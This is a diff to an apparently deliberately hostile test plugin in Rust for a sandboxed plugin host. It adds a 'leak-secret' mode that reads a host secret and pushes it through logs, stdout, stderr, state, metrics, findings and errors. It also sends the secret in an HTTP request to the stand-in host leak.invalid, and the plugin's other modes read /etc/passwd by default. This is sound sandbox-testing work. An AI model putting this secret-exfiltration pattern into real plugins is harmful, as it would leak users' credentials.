@@ -75,6 +75,9 @@ struct Config {
     /// `recursion`: depth at which to stop (never, by default).
     #[serde(default)]
     depth: Option<u64>,
+    /// `leak-secret`: return the secret in a `failed` error instead of an output.
+    #[serde(default)]
+    fail: bool,
 }
 
 /// The misbehaviours.
@@ -101,6 +104,12 @@ enum Mode {
     Http,
     /// Reads the secret `name` through the host.
     Secret,
+    /// Reads the secret `name` and tries to leak it through every channel
+    /// a plugin has: data (keys and values), metric names and labels, every
+    /// field of a finding, its log, stdout and stderr (raw and inside JSON),
+    /// runbook state (key and value), a denied HTTP request whose URL holds
+    /// it, and, with `fail`, its error message.
+    LeakSecret,
     /// Prints `bytes` to stdout, then some to stderr.
     FloodStdout,
     /// Returns a 512 MiB output.
@@ -111,7 +120,7 @@ enum Mode {
 
 impl Mode {
     /// Every mode's name, as written in config.
-    const NAMES: [&'static str; 13] = [
+    const NAMES: [&'static str; 14] = [
         "loop",
         "memory-bomb",
         "recursion",
@@ -122,6 +131,7 @@ impl Mode {
         "tcp-connect",
         "http",
         "secret",
+        "leak-secret",
         "flood-stdout",
         "huge-output",
         "sleep",
@@ -157,6 +167,7 @@ impl Guest for Hostile {
             Mode::TcpConnect => tcp_connect(required(config.addr.as_deref(), "addr", "tcp-connect")?),
             Mode::Http => http(required(config.url.as_deref(), "url", "http")?),
             Mode::Secret => secret(required(config.name.as_deref(), "name", "secret")?),
+            Mode::LeakSecret => leak_secret(required(config.name.as_deref(), "name", "leak-secret")?, config.fail),
             Mode::FloodStdout => flood_stdout(config.bytes.unwrap_or(DEFAULT_FLOOD_BYTES)),
             Mode::HugeOutput => huge_output(),
             Mode::Sleep => sleep(config.ms.unwrap_or(DEFAULT_SLEEP_MS)),
@@ -273,6 +284,46 @@ fn secret(name: &str) -> Result<StepOutput, StepError> {
     }
 }
 
+/// Tries every way out of the sandbox with the secret `name` (see
+/// [`Mode::LeakSecret`]). The HTTP request goes to a host name made of the
+/// secret, which no test grants: it is refused before any lookup.
+fn leak_secret(name: &str, fail: bool) -> Result<StepOutput, StepError> {
+    let value = host::secret(name).ok_or_else(|| failed(format!("secret {name} unavailable")))?;
+    tend_plugin_sdk::log::warn(&format!("log: {value}"));
+    println!("stdout: {value}");
+    println!("{}", json!({ "stdout_json": value }));
+    eprintln!("stderr: {value}");
+    host::state_set(&format!("key-{value}"), &format!("value-{value}")).map_err(failed)?;
+    let request = HttpRequest {
+        method: "GET".into(),
+        url: format!("http://leak.invalid/{}", value.replace(['/', '?', '#'], "_")),
+        headers: vec![("x-leak".into(), value.clone())],
+        body: Some(value.clone().into_bytes()),
+        timeout_ms: Some(1000),
+        follow_redirects: false,
+    };
+    let _ = host::http_fetch(&request);
+    if fail {
+        return Err(failed(format!("error: {value}")));
+    }
+    let metrics = vec![tend_plugin_sdk::metric(
+        &format!("metric_{value}"),
+        1.0,
+        &[("label", value.as_str()), (value.as_str(), "key")],
+    )];
+    let findings = vec![tend_plugin_sdk::finding(
+        tend_plugin_sdk::SeverityLevel::High,
+        format!("title {value}"),
+        format!("detail {value}"),
+        Some(&format!("resource {value}")),
+    )];
+    let mut data = serde_json::Map::new();
+    data.insert("secret".into(), json!(value));
+    data.insert(value.clone(), json!("as a key"));
+    data.insert("nested".into(), json!([{ "v": value }]));
+    tend_plugin_sdk::output(&data, metrics, findings)
+}
+
 /// Writes `bytes` bytes of text lines to stdout in 64 KiB writes, then up
 /// to 1 MiB to stderr, ignoring write errors (a host may close the
 /// streams).
@@ -328,7 +379,12 @@ fn config_schema() -> Value {
             "path": {"type": "string", "default": "/etc/passwd", "description": "read-file: the file to read."},
             "addr": {"type": "string", "description": "tcp-connect: host:port to connect to."},
             "url": {"type": "string", "description": "http: the URL to GET through the host."},
-            "name": {"type": "string", "description": "secret: the secret's name."},
+            "name": {"type": "string", "description": "secret, leak-secret: the secret's name."},
+            "fail": {
+                "type": "boolean",
+                "default": false,
+                "description": "leak-secret: return the secret in a failed error instead of an output.",
+            },
             "bytes": {
                 "type": "integer",
                 "minimum": 0,
